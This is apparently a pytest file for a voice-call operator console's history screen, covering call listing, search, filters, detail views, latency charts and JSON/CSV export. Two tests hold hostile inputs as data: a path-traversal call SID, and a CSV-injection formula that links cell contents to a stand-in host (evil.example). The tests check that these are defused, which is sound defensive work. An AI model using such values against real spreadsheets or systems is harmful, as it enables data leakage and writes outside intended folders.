"""Past calls in the console, read from a real SQLite call store (CallRepository)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from rich.text import Text
from textual.widgets import DataTable, Input, Select, Static

from console.events import (
    CallEnded,
    CallEvent,
    CallStarted,
    EmergencyDetected,
    OperatorActed,
    TurnCompleted,
    TurnMeasured,
)
from console.storage.db import open_db, write_event
from console.storage.records import TurnMetrics
from console.storage.repository import CallRepository
from console.tui.app import VoiceConsoleApp
from console.tui.records import UnsafeExportName, export_calls, export_path, export_stem
from console.tui.screens.call_record import CallRecordScreen
from console.tui.screens.history import HistoryFilter, HistoryScreen, since_epoch
from console.tui.widgets.latency_chart import render_latency_chart

from .conftest import frozen_clock, wait_until
from .fakes import T0, FakeBackend

SIZE = (140, 40)
DAY = 86_400.0
NOW = T0 + 42.0


def stored_call(
    sid: str, caller: str, profile: str, at: float, words: list[str], emergency: bool = False
) -> list[CallEvent]:
    events: list[CallEvent] = [
        CallStarted(
            sid,
            stream_sid=f"MZ{sid}",
            from_number=caller,
            to_number="+15550001111",
            profile=profile,
            at=at,
        ),
    ]
    for turn, text in enumerate(words, start=1):
        role = "caller" if turn % 2 else "agent"
        events.append(
            TurnCompleted(
                sid,
                role=role,
                text=text,
                started=at + turn,
                ended=at + turn + 0.8,
                at=at + turn + 0.8,
            )
        )
        if role == "agent":
            events.append(TurnMeasured(sid, turn=turn // 2, stages=_stages(turn), at=at + turn))
    if emergency:
        events.append(
            EmergencyDetected(
                sid, source="caller", phrase="can't breathe", text=words[0], at=at + 1.5
            )
        )
    events.append(OperatorActed(sid, action="take-over", actor="alice", at=at + 9))
    events.append(CallEnded(sid, reason="caller hung up", at=at + 65))
    return events


def _stages(turn: int) -> dict[str, float]:
    stt, llm, tts = 150.0 * turn, 200.0, 90.0
    return {
        "speech_end->stt_final": stt,
        "stt_final->llm_request": 5.0,
        "llm_request->llm_first_token": llm,
        "llm_first_token->first_sentence": 40.0,
        "first_sentence->tts_first_byte": tts,
        "tts_first_byte->first_frame_sent": 15.0,
        "voice_to_voice": stt + 5 + llm + 40 + tts + 15,
    }


CALLS = {
    "CAbook": stored_call(
        "CAbook",
        "+15551110001",
        "scheduling",
        NOW - 600,
        [
            "I want to book a cleaning",
            "Sure, which day?",
            "Tuesday morning please",
            "Booked for Tuesday at nine.",
        ],
    ),
    "CAcough": stored_call(
        "CAcough",
        "+15551110002",
        "medical_intake",
        NOW - 3 * DAY,
        ["I have had a cough for a week", "I am sorry to hear that."],
    ),
    "CAurgent": stored_call(
        "CAurgent",
        "+15551110003",
        "medical_intake",
        NOW - 20 * DAY,
        ["I can't breathe properly", "Transferring you now."],
        emergency=True,
    ),
}


class ExportingHistory(CallRepository):
    """A CallRepository that knows its exports folder, as the runtime's history does."""

    def __init__(self, db_path: Path) -> None:
        super().__init__(db_path)
        self.exports_dir = db_path.parent / "exports"


@pytest.fixture
def history(tmp_path: Path) -> ExportingHistory:
    return stored_history(tmp_path, *CALLS.values())


def stored_history(folder: Path, *calls: list[CallEvent]) -> ExportingHistory:
    db = open_db(folder / "calls.db")
    for events in calls:
        for event in events:
            write_event(db, event)
    db.conn.commit()
    db.close()
    return ExportingHistory(folder / "calls.db")


def notes_of(app: VoiceConsoleApp) -> list[str]:
    """What the app tells the operator, as it is told."""
    notes: list[str] = []
    notify = app.notify
    app.notify = lambda message, **kw: (notes.append(message), notify(message, **kw))
    return notes


def history_app(history) -> VoiceConsoleApp:
    backend = FakeBackend()
    backend.history = history
    return VoiceConsoleApp(backend, clock=frozen_clock(NOW), refresh_interval=0.02)


def listed(app: VoiceConsoleApp) -> list[str]:
    return [str(key.value) for key in app.screen.query_one(DataTable).rows]


def read_export(path: Path) -> list[dict]:
    with path.open(encoding="utf-8") as exported:
        return json.load(exported) if path.suffix == ".json" else list(csv.DictReader(exported))


async def open_history(pilot) -> HistoryScreen:
    await wait_until(pilot, lambda: pilot.app.started)
    await pilot.press("p")
    await wait_until(pilot, lambda: isinstance(pilot.app.screen, HistoryScreen))
    screen = pilot.app.screen
    await wait_until(pilot, lambda: screen.loaded)
    return screen


async def requery(pilot, screen: HistoryScreen, change) -> None:
    screen.loaded = False
    change()
    await wait_until(pilot, lambda: screen.loaded)


async def test_history_lists_past_calls_newest_first_with_their_outline(history) -> None:
    app = history_app(history)
    async with app.run_test(size=SIZE) as pilot:
        await open_history(pilot)
        assert listed(app) == ["CAbook", "CAcough", "CAurgent"]
        row = [
            c.plain if isinstance(c, Text) else c
            for c in app.screen.query_one(DataTable).get_row("CAurgent")
        ]
        assert row[1:] == [
            "+15551110003",
            "medical_intake",
            "1:05",
            "2",
            "caller hung up",
            "⚠ emergency",
            "—",  # no summary was stored for it
        ]
        status = app.screen.query_one("#history-status", Static).content
        assert str(status).startswith("3 calls")


async def test_searching_words_said_in_a_call_finds_it(history) -> None:
    app = history_app(history)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_history(pilot)
        await pilot.press("slash")
        assert isinstance(screen.focused, Input)
        screen.loaded = False
        await pilot.press(*"cough week")  # words from a turn, in any order
        await wait_until(pilot, lambda: screen.loaded and listed(app) == ["CAcough"])
        await requery(pilot, screen, lambda: setattr(screen.query_one(Input), "value", "0003"))
        assert listed(app) == ["CAurgent"]  # part of the caller's number
        await requery(pilot, screen, lambda: setattr(screen.query_one(Input), "value", "zebra"))
        assert listed(app) == []


@pytest.mark.parametrize(
    ("select", "value", "expected"),
    [
        ("#history-profile", "medical_intake", ["CAcough", "CAurgent"]),
        ("#history-emergency", "yes", ["CAurgent"]),
        ("#history-emergency", "no", ["CAbook", "CAcough"]),
        ("#history-since", "7", ["CAbook", "CAcough"]),
        ("#history-since", "today", ["CAbook"]),
    ],
)
async def test_filters_narrow_the_list(history, select, value, expected) -> None:
    app = history_app(history)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_history(pilot)
        await wait_until(pilot, lambda: screen.profile_names)
        await requery(
            pilot, screen, lambda: setattr(screen.query_one(select, Select), "value", value)
        )
        assert listed(app) == expected


def test_today_starts_at_local_midnight_and_a_week_seven_days_before() -> None:
    today = since_epoch("today", NOW)
    assert 0 <= NOW - today < DAY
    assert since_epoch("7", NOW) == pytest.approx(today - 7 * DAY, abs=3600)  # DST shifts
    assert HistoryFilter(search="  ").query(NOW)["search"] is None


async def test_a_call_opens_with_transcript_events_and_latency_chart(history) -> None:
    app = history_app(history)
    async with app.run_test(size=SIZE) as pilot:
        await open_history(pilot)
        await pilot.press("enter")  # the newest call
        await wait_until(
            pilot,
            lambda: isinstance(app.screen, CallRecordScreen) and app.screen.record is not None,
        )

        def text(widget_id: str) -> str:
            return str(app.screen.query_one(widget_id, Static).content)

        assert "Caller   I want to book a cleaning" in text("#record-transcript")
        assert "Agent    Booked for Tuesday at nine." in text("#record-transcript")
        assert "alice take over" in text("#record-events")
        assert "call ended: caller hung up" in text("#record-events")
        chart = text("#record-latency")
        assert "p50 650 ms · p95 950 ms" in chart and "recognition" in chart
        await pilot.press("escape")
        await wait_until(pilot, lambda: isinstance(app.screen, HistoryScreen))


async def test_a_call_with_audit_rows_this_version_cannot_decode_opens_and_shows_them_as_stored(
    tmp_path: Path,
) -> None:
    history = stored_history(tmp_path, CALLS["CAbook"])
    db = open_db(tmp_path / "calls.db")  # rows as a newer (or older) console left them
    for kind, payload in (("CallerMoodMeasured", '{"mood": "calm"}'), ("CallEnded", "{}")):
        db.execute("INSERT INTO events (call_sid, kind, payload, at) VALUES (?, ?, ?, ?)",
                   ["CAbook", kind, payload, NOW - 590])
    db.conn.commit()
    db.close()
    app = history_app(history)
    async with app.run_test(size=SIZE) as pilot:
        await open_history(pilot)
        await pilot.press("enter")
        await wait_until(
            pilot,
            lambda: isinstance(app.screen, CallRecordScreen) and app.screen.record is not None,
        )
        events = str(app.screen.query_one("#record-events", Static).content)
        assert "+  0:10 CallerMoodMeasured {'mood': 'calm'}" in events
        assert "+  0:10 CallEnded {}" in events  # a reason-less CallEnded: shown, not described
        assert "call ended: caller hung up" in events  # the rows it can read, in its words
        assert "Caller   I want to book a cleaning" in str(
            app.screen.query_one("#record-transcript", Static).content)


def test_the_latency_chart_scales_bars_to_the_slowest_turn_and_flags_the_budget() -> None:
    chart = render_latency_chart(
        [TurnMetrics(turn=1, stages=_stages(1)), TurnMetrics(turn=2, stages=_stages(2))]
    )
    lines = chart.plain.splitlines()
    assert lines[1].count("█") < lines[2].count("█") == 32  # the slowest fills the width
    slow = chart.plain.index("650 ms")
    assert any("red" in str(span.style) for span in chart.spans if span.start <= slow < span.end)
    assert render_latency_chart([]).plain == "no turn was measured on this call"


async def test_export_writes_the_listed_calls_as_json_and_csv_and_says_where(history) -> None:
    app = history_app(history)
    notes: list[str] = []
    notify = app.notify
    app.notify = lambda message, **kw: (notes.append(message), notify(message, **kw))
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_history(pilot)
        await requery(
            pilot,
            screen,
            lambda: setattr(
                screen.query_one("#history-profile", Select), "value", "medical_intake"
            ),
        )
        await pilot.press("j")
        await wait_until(pilot, lambda: any(n.startswith("Exported") for n in notes))
        await pilot.press("c")
        await wait_until(pilot, lambda: len([n for n in notes if "Exported" in n]) == 2)
    paths = [Path(n.rsplit(" to ", 1)[1]) for n in notes if n.startswith("Exported 2 calls")]
    assert [p.suffix for p in paths] == [".json", ".csv"]
    assert all(p.parent == history.exports_dir for p in paths)
    exported = read_export(paths[0])
    assert {c["call_sid"] for c in exported} == {"CAcough", "CAurgent"}
    assert exported[0]["turns"][0]["text"]
    rows = read_export(paths[1])
    assert [r["call_sid"] for r in rows] == ["CAcough", "CAurgent"]


async def test_one_call_exports_from_its_detail_view(history) -> None:
    app = history_app(history)
    notes: list[str] = []
    notify = app.notify
    app.notify = lambda message, **kw: (notes.append(message), notify(message, **kw))
    async with app.run_test(size=SIZE) as pilot:
        await open_history(pilot)
        await pilot.press("down", "enter")
        await wait_until(pilot, lambda: isinstance(app.screen, CallRecordScreen))
        await pilot.press("j")
        await wait_until(pilot, lambda: notes)
    path = Path(notes[0].rsplit(" to ", 1)[1])
    # "CAcough" is no Twilio SID (CA + 32 hex), so the file is named after a digest of it.
    assert notes[0].startswith("Exported 1 call to") and path.name.startswith("call-")
    assert path.parent == history.exports_dir
    assert [c["call_sid"] for c in read_export(path)] == ["CAcough"]


async def test_a_stored_sid_that_climbs_out_of_the_exports_folder_is_exported_inside_it(
    tmp_path: Path,
) -> None:
    climber = "../../escaped"  # a callSid is whatever the media stream said
    history = stored_history(tmp_path / "data", stored_call(climber, "+1555", "x", NOW, ["hi"]))
    app = history_app(history)
    notes = notes_of(app)
    async with app.run_test(size=SIZE) as pilot:
        await open_history(pilot)
        await pilot.press("enter")
        await wait_until(pilot, lambda: isinstance(app.screen, CallRecordScreen))
        await pilot.press("j")
        await wait_until(pilot, lambda: notes)
    assert notes[0].startswith("Exported 1 call to")
    written = json_files(tmp_path)
    assert [p.parent for p in written] == [history.exports_dir]
    assert written[0].name.startswith(export_stem(climber)) and ".." not in written[0].name


def json_files(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.is_file() and p.suffix == ".json"]


def test_a_real_call_sid_names_its_export_and_nothing_else_leaves_the_folder(tmp_path) -> None:
    sid = "CA" + "0123456789abcdef" * 2
    assert export_stem(sid) == sid
    assert export_stem(sid + "/..") != export_stem("x") and export_stem("x").startswith("call-")
    for stem in ("../x", "a/b", "", "x" * 65):
        with pytest.raises(UnsafeExportName):
            export_path(tmp_path, "json", stem)
    with pytest.raises(UnsafeExportName):
        export_path(tmp_path, "json/../../x", "calls")


def test_csv_cells_a_spreadsheet_would_run_are_exported_as_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"call back")'
    events = stored_call("CAformula", formula, "@SUM(A1)", NOW, ["hi"])
    history = stored_history(tmp_path, events)
    export_calls(history, "csv", ["CAformula"], "calls")
    (row,) = read_export(next(history.exports_dir.glob("*.csv")))
    assert (row["from_number"], row["profile"]) == ("'" + formula, "'@SUM(A1)")
    assert row["to_number"] == "'+15550001111"  # a plus starts a formula too: shown as text


async def test_a_history_without_export_says_so_instead_of_failing(tmp_path) -> None:
    app = history_app(CallRepository(tmp_path / "calls.db"))  # no exports folder
    notes: list[str] = []
    notify = app.notify
    app.notify = lambda message, **kw: (notes.append(message), notify(message, **kw))
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_history(pilot)
        assert listed(app) == []
        await pilot.press("j")
        await wait_until(pilot, lambda: notes)
        assert notes == ["Nothing to export: no call matches"]
        screen.query_one(DataTable).add_row("x", key="CAx")
        await pilot.press("j")
        await wait_until(pilot, lambda: len(notes) == 2)
        assert notes[1] == "Export failed: this runtime's call history cannot export"


async def test_enter_in_the_search_box_searches_at_once_and_returns_to_the_list(history) -> None:
    app = history_app(history)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_history(pilot)
        await pilot.press("slash", *"Tuesday")
        screen.loaded = False
        await pilot.press("enter")
        await wait_until(pilot, lambda: screen.loaded)
        assert listed(app) == ["CAbook"] and isinstance(screen.focused, DataTable)
        assert app.screen is screen  # enter searched; it did not open a call
